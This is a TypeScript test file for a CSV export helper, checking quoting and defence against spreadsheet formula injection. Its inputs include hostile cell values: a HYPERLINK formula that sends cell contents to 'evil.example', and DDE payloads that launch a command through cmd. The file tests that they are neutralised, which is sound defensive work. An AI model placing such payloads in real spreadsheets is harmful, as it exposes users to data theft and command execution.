import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvCell, csvLine, fromCsvCell, neutraliseCell, type CsvValue } from '../../../core/shared/csvCell';

describe('a CSV cell', () => {
	it.each<[CsvValue, string]>([
		['Ana', 'Ana'], ['', ''], [null, ''], [undefined, ''], [12.5, '12.5'], [-3, '-3'], [true, 'true'],
		['a,b', '"a,b"'], ['a;b', '"a;b"'], ['say "hi"', '"say ""hi"""'], ['two\nlines', '"two\nlines"'], [' padded ', '" padded "'],
		['李伟', '李伟'], ['a-b=c', 'a-b=c'], ['ana+news@b.example', 'ana+news@b.example'],
	])('%j → %j', (value, cell) => {
		expect(csvCell(value)).toBe(cell);
	});

	it.each([
		'=1+1', '=HYPERLINK("http://evil.example?x="&A1,"click")', '+1', '-1+1', '@SUM(1)', '\t=1', '\r=1', '\n=1', '\tplain', '\rplain', ' =1', '\u00a0=1', '"=1', "'=1", ' "=1', '\u200b=1',
		'\ufeff=1', '＝1', '＋1', '－1', '＠A', "=cmd|' /C calc'!A0", '-2+3+cmd|\'/C calc\'!A0',
	])('%j is shown, not run', (value) => {
		const [[cell]] = parse(csvCell(value)) as [[string]];
		expect(cell).toBe(`'${value}`);
		expect(fromCsvCell(cell)).toBe(value);
	});

	it('any text stays one cell of one row, and is never read as a formula', () => {
		fc.assert(fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 4 }), (values) => {
			const rows = parse(csvLine(values), { bom: false }) as string[][];
			expect(rows).toHaveLength(1);
			expect(rows[0]?.map(fromCsvCell)).toEqual(values);
			for (const cell of rows[0] ?? []) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
		}), { numRuns: 2000 });
	});
});

describe('a text that somebody gets back', () => {
	it.each(['=1+1', '+49 171', '-2+3', '@SUM(A1)', '  =cmd()', '\t=1', '\rx', '"=1', '\u200b=1', '＝1'])('%j gets an apostrophe', (text) => {
		expect(neutraliseCell(text)).toBe(`'${text}`);
	});

	it.each(['', 'Ana', '-12.50', '+3', ' -1,234.50 ', '1=1', 'a@b.example', '2026-01-02'])('%j stays', (text) => {
		expect(neutraliseCell(text)).toBe(text);
	});
});
